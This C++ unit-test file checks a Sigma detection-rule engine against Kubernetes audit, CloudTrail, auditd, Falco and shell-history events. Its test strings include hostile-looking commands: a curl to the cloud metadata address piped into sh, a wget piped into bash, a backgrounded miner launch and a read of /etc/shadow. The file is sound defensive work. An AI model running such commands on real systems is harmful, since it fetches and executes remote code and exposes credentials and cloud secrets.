// SPDX-License-Identifier: Apache-2.0
#include "detect/sigma/mapping.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "detect/sigma/test_support.h"

namespace ekshume::detect::sigma {
namespace {

using event::Event;
using event::Number;
using event::Text;
using testing::ElementsAre;
using testing::HasSubstr;

std::string MatchAudit(std::string_view items, std::string_view raw) {
  std::string detection = "s:\n";
  for (size_t at = 0; at < items.size();) {
    const size_t end = std::min(items.find('\n', at), items.size());
    detection += "    " + std::string(items.substr(at, end - at)) + "\n";
    at = end + 1;
  }
  const TestEngine engine(RuleText("category: application, product: kubernetes, service: audit",
                                   detection + "condition: s", "yes"));
  return engine.Match("k8s_audit", raw);
}

TEST(SigmaMapping, FindsHostPathsOfPodsAndTemplates) {
  constexpr std::string_view kPod =
      R"({"verb":"create","requestObject":{"spec":{"volumes":[{"name":"a"},{"hostPath":{"path":"/etc"}}]}}})";
  constexpr std::string_view kCronJob =
      R"({"verb":"create","requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"volumes":[{"hostPath":{"path":"/var"}}]}}}}}}})";
  EXPECT_EQ(MatchAudit("verb: create\nhostPath: '*'", kPod), "yes");
  EXPECT_EQ(MatchAudit("hostPath|startswith: /e", kPod), "yes");
  EXPECT_EQ(MatchAudit("hostPath: /var", kPod), "");
  EXPECT_EQ(MatchAudit("hostPath: /var", kCronJob), "yes");
  EXPECT_EQ(
      MatchAudit("hostPath: '*'", R"({"verb":"create","requestObject":{"spec":{"volumes":[{}]}}})"),
      "");
}

TEST(SigmaMapping, FindsCapabilitiesAndPrivilegedContainers) {
  EXPECT_EQ(
      MatchAudit(
          "capabilities: SYS_ADMIN",
          R"({"requestObject":{"spec":{"containers":[{"securityContext":{"capabilities":{"add":["NET_RAW","SYS_ADMIN"]}}}]}}})"),
      "yes");
  EXPECT_EQ(
      MatchAudit(
          "capabilities: '*'",
          R"({"requestObject":{"spec":{"template":{"spec":{"initContainers":[{"securityContext":{"privileged":true}}]}}}}})"),
      "yes");
  EXPECT_EQ(
      MatchAudit(
          "capabilities: '*'",
          R"({"requestObject":{"spec":{"containers":[{"securityContext":{"privileged":false}}]}}})"),
      "");
}

TEST(SigmaMapping, KnowsOtherNamesOfAuditFields) {
  EXPECT_EQ(MatchAudit("apiGroup: apps", R"({"objectRef":{"apiGroup":"apps"}})"), "yes");
  constexpr std::string_view kAllowed =
      R"({"responseStatus":{"code":200},"annotations":{"authorization.k8s.io/decision":"allow"}})";
  EXPECT_EQ(MatchAudit("responseStatus.code: ALLOW", kAllowed), "yes");
  EXPECT_EQ(MatchAudit("responseStatus.code: 200", kAllowed), "yes");
  EXPECT_EQ(MatchAudit("responseStatus.code: FORBID", kAllowed), "");
  EXPECT_EQ(MatchAudit("verb: replace", R"({"verb":"update"})"), "yes");
  EXPECT_EQ(MatchAudit("verb: replace", R"({"verb":"patch"})"), "");
  constexpr std::string_view kItems = "verb: create\nobjectRef.subresource: exec";
  EXPECT_EQ(MatchAudit(kItems,
                       R"({"verb":"create","objectRef":{"resource":"pods","subresource":"exec"}})"),
            "yes");
  EXPECT_EQ(
      MatchAudit(kItems, R"({"verb":"get","objectRef":{"resource":"pods","subresource":"exec"}})"),
      "yes");
  EXPECT_EQ(MatchAudit("verb: create",
                       R"({"verb":"get","objectRef":{"resource":"pods","subresource":"log"}})"),
            "");
}

TEST(SigmaMapping, ReadsPiecesOfCloudTrailAsJson) {
  const auto match = [](std::string_view item, std::string_view raw) {
    return TestEngine(RuleText("product: aws, service: cloudtrail",
                               "s:\n    " + std::string(item) + "\ncondition: s", "yes"))
        .Match("cloudtrail", raw);
  };
  constexpr std::string_view kRecord =
      R"({"eventName":"X","requestParameters":{"policyDocument":"{\"Effect\":\"Allow\"}","enable":false,)"
      R"("containerDefinitions":[{"command":["sh","-c","id"]}]}})";
  EXPECT_EQ(match("requestParameters|contains: '\"Allow\"'", kRecord), "yes");
  EXPECT_EQ(match("requestParameters|contains: '\"enable\":false'", kRecord), "yes");
  EXPECT_EQ(match("requestParameters.enable: 'false'", kRecord), "yes");
  EXPECT_EQ(match("requestParameters.containerDefinitions.command: id", kRecord), "yes");
  EXPECT_EQ(match("errorCode: null", kRecord), "yes");
  EXPECT_EQ(match("errorCode|exists: true", kRecord), "");
}

constexpr std::string_view kProcessRule =
    "s:\n    Image|endswith: /curl\n    CommandLine|contains: 169.254.169.254\ncondition: s";

TEST(SigmaMapping, RunsProcessRulesOverEverythingThatRuns) {
  const TestEngine engine(
      RuleText("category: process_creation, product: linux", kProcessRule, "yes"));
  Event exec;
  exec[Text::kSource] = "k8s_audit";
  exec[Text::kCommandLine] = "curl -s http://169.254.169.254/latest/";
  EXPECT_EQ(engine.Match(exec, R"({"verb":"get"})"), "yes");
  Event history;
  history[Text::kSource] = "shell_history";
  history[Text::kProcess] = "bash";
  history[Text::kCommandLine] = "cd /tmp && sudo /usr/bin/curl http://169.254.169.254/ | sh";
  EXPECT_EQ(engine.Match(history, history[Text::kCommandLine]), "yes");
  Event falco;
  falco[Text::kSource] = "falco";
  falco[Text::kProcess] = "/usr/bin/curl";
  falco[Text::kCommandLine] = "c 169.254.169.254";
  EXPECT_EQ(engine.Match(falco, "{}"), "yes");
  Event finding;
  finding[Text::kSource] = "guardduty";
  finding[Text::kProcess] = "curl";
  finding[Text::kCommandLine] = "curl 169.254.169.254";
  EXPECT_EQ(engine.Match(finding, "{}"), "yes");
  Event other;
  other[Text::kSource] = "shell_history";
  other[Text::kCommandLine] = "echo curl 169.254.169.254";
  EXPECT_EQ(engine.Match(other, ""), "");
  EXPECT_EQ(engine.Match("k8s_audit", R"({"userAgent":"curl 169.254.169.254"})"), "");
}

TEST(SigmaMapping, KnowsTheParentAndTheUser) {
  const TestEngine engine(
      RuleText("category: process_creation, product: linux",
               "s:\n    ParentImage|endswith: /nginx\n    User: root\ncondition: s", "yes"));
  Event falco;
  falco[Text::kSource] = "falco";
  falco[Text::kCommandLine] = "sh -c id";
  falco[Text::kUserName] = "root";
  falco[Text::kTags] = "falco=container parent=nginx";
  EXPECT_EQ(engine.Match(falco, "{}"), "yes");
  falco[Text::kTags] = "grandparent=nginx";
  EXPECT_EQ(engine.Match(falco, "{}"), "");
  EXPECT_EQ(engine.Match(falco, R"({"output_fields":{"proc.pexepath":"/usr/sbin/nginx"}})"), "yes");
  falco[Text::kSource] = "k8s_audit";
  EXPECT_EQ(engine.Match(falco, R"({"output_fields":{"proc.pexepath":"/usr/sbin/nginx"}})"), "");
}

TEST(SigmaMapping, FindsFilesAndConnections) {
  const TestEngine files(RuleText("category: file_event, product: linux",
                                  "s:\n    TargetFilename|startswith: /etc/cron.d/\ncondition: s",
                                  "yes"));
  Event file;
  file[Text::kSource] = "file";
  file[Text::kAction] = "created";
  file[Text::kPath] = "/etc/cron.d/update";
  EXPECT_EQ(files.Match(file, ""), "yes");
  file[Text::kAction] = "accessed";
  EXPECT_EQ(files.Match(file, ""), "");
  const TestEngine connections(RuleText("category: network_connection, product: linux",
                                        "s:\n    DestinationIp|cidr: 198.51.100.0/24\n    "
                                        "DestinationPort: 443\n    Initiated: 'true'\ncondition: s",
                                        "yes"));
  Event connection;
  connection[Text::kSource] = "falco";
  connection[Text::kDestinationIp] = "198.51.100.7";
  connection[Number::kDestinationPort] = 443;
  EXPECT_EQ(connections.Match(connection, "{}"), "yes");
  connection[Number::kDestinationPort] = 80;
  EXPECT_EQ(connections.Match(connection, "{}"), "");
}

TEST(SigmaMapping, ReadsLinesOfTheAuditLogOneByOne) {
  const auto match = [](std::string_view items, std::string_view raw) {
    return TestEngine(RuleText("product: linux, service: auditd",
                               "s:\n" + std::string(items) + "\ncondition: s", "yes"))
        .Match("auditd", raw);
  };
  // a2 is "/etc/shadow" in hexadecimal; 59 is execve on x86-64.
  constexpr std::string_view kRecord =
      "type=SYSCALL msg=audit(1700000000.123:7): arch=c000003e syscall=59 success=yes a0=4 uid=33 "
      "euid=33 exe=\"/usr/bin/cat\" key=(null)\n"
      "type=EXECVE msg=audit(1700000000.123:7): argc=3 a0=\"cat\" a1=\"-n\" "
      "a2=2F6574632F736861646F77";
  EXPECT_EQ(match("    type: EXECVE\n    a0: cat\n    a2: /etc/shadow", kRecord), "yes");
  EXPECT_EQ(match("    type: SYSCALL\n    SYSCALL: execve\n    euid: 33", kRecord), "yes");
  EXPECT_EQ(match("    type: SYSCALL\n    a0: 4", kRecord), "yes");
  EXPECT_EQ(match("    type: EXECVE\n    exe|endswith: /cat", kRecord), "");
  EXPECT_EQ(match("    - /etc/shadow", kRecord), "yes");
}

TEST(SigmaMapping, LooksForKeywordsInTextOfTheRightProgram) {
  const TestEngine sshd(
      RuleText("product: linux, service: sshd", "k: [Invalid user]\ncondition: k", "sshd"));
  const TestEngine any(RuleText("product: linux", "k: [Invalid user]\ncondition: k", "any"));
  Event event;
  event[Text::kSource] = "syslog";
  event[Text::kProcess] = "sshd";
  constexpr std::string_view kLine = "Nov 24 21:39:08 node sshd[1]: Invalid user x";
  EXPECT_EQ(sshd.Match(event, kLine), "sshd");
  EXPECT_EQ(any.Match(event, kLine), "any");
  event[Text::kProcess] = "cron";
  EXPECT_EQ(sshd.Match(event, kLine), "");
  // Of JSON only what ran is text.
  event[Text::kSource] = "k8s_audit";
  event[Text::kCommandLine] = "echo hello";
  EXPECT_EQ(any.Match(event, R"({"x":"Invalid user"})"), "");
}

TEST(SigmaMapping, NamesWhatNoRecordHas) {
  const TestEngine unknown(
      RuleText("product: aws, service: cloudtrail", "s:\n    src_country: x\ncondition: s"));
  ASSERT_EQ(unknown.doubtful.size(), 1U);
  EXPECT_EQ(unknown.doubtful[0].reason, "no record of its log source has a field src_country");
  EXPECT_EQ(unknown.doubtful[0].line, 5U);
  const TestEngine windows(RuleText("category: process_creation, product: windows", kProcessRule));
  ASSERT_EQ(windows.doubtful.size(), 1U);
  EXPECT_THAT(windows.doubtful[0].reason, HasSubstr("product windows, category process_creation"));
  EXPECT_FALSE(windows.engine->HasView(0));
}

TEST(SigmaMapping, TakesProgramsOutOfCommandLines) {
  EXPECT_THAT(ProgramsOf("curl x"), ElementsAre("/curl"));
  EXPECT_THAT(ProgramsOf("A=1 B='2 3' /bin/ls -l; id&&who|wc"),
              ElementsAre("/bin/ls", "/id", "/who", "/wc"));
  EXPECT_THAT(ProgramsOf("sh -c 'wget http://x -O- | bash'"), ElementsAre("/sh", "/wget", "/bash"));
  EXPECT_THAT(ProgramsOf("sudo -n nohup ./miner &"), ElementsAre("/sudo", "/nohup", "./miner"));
  EXPECT_THAT(ProgramsOf("echo $(whoami)"), ElementsAre("/echo", "/whoami"));
  EXPECT_THAT(ProgramsOf(""), ElementsAre());
}

}  // namespace
}  // namespace ekshume::detect::sigma
